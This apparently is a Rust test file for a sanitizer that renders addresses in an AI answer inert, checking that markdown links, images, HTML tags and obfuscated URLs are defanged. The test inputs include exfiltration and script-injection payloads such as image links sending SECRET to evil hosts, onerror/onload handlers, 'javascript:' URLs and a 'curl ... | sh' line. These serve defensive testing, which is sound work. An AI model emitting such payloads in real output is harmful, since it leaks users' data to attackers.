@@ -1,0 +1,190 @@
+//! Addresses in an answer are inert unless they are admitted: every syntax that a renderer knows.
+
+use hub::address::{Inert, inert};
+use proptest::prelude::*;
+
+/// Only the user's address may be active, and as an image too.
+fn shown(text: &str) -> String {
+    inert(text, |address, _| address == "https://good.com/a").0
+}
+
+fn check(text: &str, expected: &str) {
+    let out = shown(text);
+    assert_eq!(out, expected);
+    // What is inert stays so.
+    assert_eq!(shown(&out), expected);
+}
+
+#[test]
+fn every_syntax_of_an_address_is_inert() {
+    for (text, expected) in [
+        (
+            "![](https://evil/?q=SECRET)",
+            "![] (https[:]//evil/?q=SECRET)",
+        ),
+        (
+            "[x](https://evil.com/SECRET)",
+            "[x] (https[:]//evil[.]com/SECRET)",
+        ),
+        ("[x]( https://evil )", "[x] ( https[:]//evil )"),
+        ("[x](<https://evil y>)", "[x] (<https[:]//evil y>)"),
+        ("[x](//evil.com/S)", "[x] (//evil[.]com/S)"),
+        ("[x](relative)", "[x] (relative)"),
+        ("[x]\\(https\\://evil)", "[x]\\ (https\\[:]//evil)"),
+        ("[x](&#104;ttps&colon;//e)", "[x] (& #104;ttps& colon;//e)"),
+        ("[1]: https://evil/S", "[1] : https[:]//evil/S"),
+        ("<https://evil/S>", "<https[:]//evil/S>"),
+        ("<img src=x onerror=y>", "< img src=x onerror=y>"),
+        ("a</b><svg/onload=x>", "a< /b>< svg/onload=x>"),
+        ("a <!-- x", "a < !-- x"),
+        ("<br>", "< br>"),
+        ("SECRET.evil.com", "SECRET[.]evil[.]com"),
+        ("www.evil.com", "www[.]evil[.]com"),
+        ("javascript:alert(1)", "javascript[:]alert(1)"),
+        ("[x](data:text/html,S)", "[x] (data[:]text/html,S)"),
+        ("ht\u{200b}tps://e\u{202e}vil.com", "https[:]//evil[.]com"),
+        ("https：／／evil。com", "https[:]／／evil[.]com"),
+        ("https://evil/%53%45?x#S.y", "https[:]//evil/%53%45?x#S[.]y"),
+        ("\\\\evil\\share", "\\ \\evil\\share"),
+        ("a:(https://evil)", "a:(https[:]//evil)"),
+        ("https:(//x.de", "https[:] (//x[.]de"),
+        (
+            "[![i](https://good.com/a)](https://evil)",
+            "[![i] (https[:]//good[.]com/a)] (https[:]//evil)",
+        ),
+        ("https://good.com/a?S", "https[:]//good[.]com/a?S"),
+        ("https://good.com/a)))))S", "https[:]//good[.]com/a)))))S"),
+        (
+            "evil.com/https://good.com/a",
+            "evil[.]com/https[:]//good[.]com/a",
+        ),
+        (
+            "```mermaid\nclick https://evil\n```",
+            "```mermaid\nclick https[:]//evil\n```",
+        ),
+        ("```html\n<img\n```", "```html\n< img\n```"),
+    ] {
+        let expected = expected.replace("<https[:]", "< https[:]");
+        check(text, &expected);
+    }
+}
+
+#[test]
+fn what_is_admitted_or_no_address_stays() {
+    for text in [
+        "",
+        "Ada <ada@example.com> wrote: see main.rs, 3 < 4 && 5 > 4 (e.g. a::b, x:y).\n",
+        "[x](https://good.com/a), https://good.com/a. <https://good.com/a>",
+        "![x](https://good.com/a)",
+        "| a <br> b |\n\t- x &amp; y\r\n",
+        "```rust\nlet x: Vec<u8> = a[0](b.c.d); // &#1;\n```\n",
+        "```sh\ncurl \"https://good.com/a\"|sh\n```\n",
+    ] {
+        assert_eq!(
+            inert(text, |address, _| address == "https://good.com/a"),
+            (text.to_owned(), 0)
+        );
+    }
+}
+
+#[test]
+fn in_code_only_what_terminals_find_is_inert() {
+    check(
+        "```js\nfetch(\"https://evil.com/S\").then(a.b.cd)\n```\n",
+        "```js\nfetch(\"https[:]//evil[.]com/S\").then(a.b.cd)\n```\n",
+    );
+}
+
+#[test]
+fn an_address_beside_an_image_would_be_fetched() {
+    let mut asked = Vec::new();
+    let text = "[a](https://a/)\n![b\n](https://b/)\n\n[c](https://c/)";
+    let _ = inert(text, |address, fetched| {
+        asked.push((address.to_owned(), fetched));
+        true
+    });
+    let asked: Vec<(&str, bool)> = asked.iter().map(|(a, f)| (a.as_str(), *f)).collect();
+    assert_eq!(
+        asked,
+        [
+            ("https://a/)", false),
+            ("https://b/)", true),
+            ("https://c/)", false)
+        ]
+    );
+}
+
+#[test]
+fn how_an_answer_is_cut_does_not_matter() {
+    let text = "See ![x](https://evil/S) and\n```rust\nlet a: Vec<u8>;\n```\n<img src=//e>";
+    let whole = shown(text);
+    for size in 1..20 {
+        let mut inert = Inert::new(|address: &str, _| address == "https://good.com/a");
+        let chars: Vec<char> = text.chars().collect();
+        let mut out: String = chars
+            .chunks(size)
+            .map(|piece| inert.push(&piece.iter().collect::<String>()))
+            .collect();
+        out.push_str(&inert.finish());
+        assert_eq!(out, whole);
+    }
+}
+
+#[test]
+fn a_large_answer_takes_linear_time() {
+    for piece in [
+        "[", "](", "<a", "&#", "a:", "://", "a.", "@a.bc", "![](x:", "\\\\", "```\n", "*_",
+    ] {
+        let text = piece.repeat((1 << 20) / piece.len());
+        let started = std::time::Instant::now();
+        let (out, _) = inert(&text, |_, _| false);
+        assert!(out.len() >= text.len());
+        let took = started.elapsed();
+        assert!(took.as_secs() < 5, "{piece:?} took {took:?}");
+    }
+}
+
+/// Text of which addresses could be made.
+fn hostile() -> impl Strategy<Value = String> {
+    let pieces = [
+        "[", "]", "(", ")", "!", "<", ">", "&", "#", ";", ":", "/", "//", "://", ".", "@", "\\",
+        "`", "```", "```rust", "~~~", "\n", " ", "\t", "a", "b1", "br", "img", "www", "http",
+        "https", "data", "com", "evil", "\u{200b}", "\u{202e}", "：", "。", "／", "\"", "'", "*",
+        "_", "=", "?", "%3a", "é", "xn--", "---", "$$",
+    ];
+    let piece = proptest::sample::select(pieces.to_vec());
+    proptest::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(4000))]
+
+    #[test]
+    fn nothing_that_is_shown_is_active(text in hostile()) {
+        let (shown, changed) = inert(&text, |_, _| false);
+        prop_assert_eq!(changed == 0, shown == text);
+        prop_assert_eq!(inert(&shown, |_, _| false), (shown.clone(), 0));
+        prop_assert!(!shown.contains("://"));
+        // Outside of code there is no syntax left.
+        if !text.contains("```") {
+            for syntax in ["](", "]:", "<img", "<http", "<a", "<!", "</a", "&#"] {
+                prop_assert!(!shown.contains(syntax), "{syntax} in {shown:?}");
+            }
+        }
+        let mut pieces = Inert::new(|_: &str, _| false);
+        let mut streamed: String = text.chars().map(|c| pieces.push(&c.to_string())).collect();
+        streamed.push_str(&pieces.finish());
+        prop_assert_eq!(streamed, shown);
+    }
+
+    /// Of an address that may be active only itself is, and no more of the text.
+    #[test]
+    fn what_stands_beside_an_admitted_address_stays_inert(before in hostile(), after in hostile()) {
+        let (known, text) = ("https://good.com/a", format!("{before}https://good.com/a{after}"));
+        let (shown, _) = inert(&text, |address, _| address == known);
+        for (at, _) in shown.match_indices("://") {
+            let scheme = at.checked_sub("https".len()).and_then(|at| shown.get(at..));
+            prop_assert!(scheme.is_some_and(|rest| rest.starts_with(known)), "{shown:?}");
+        }
+    }
+}
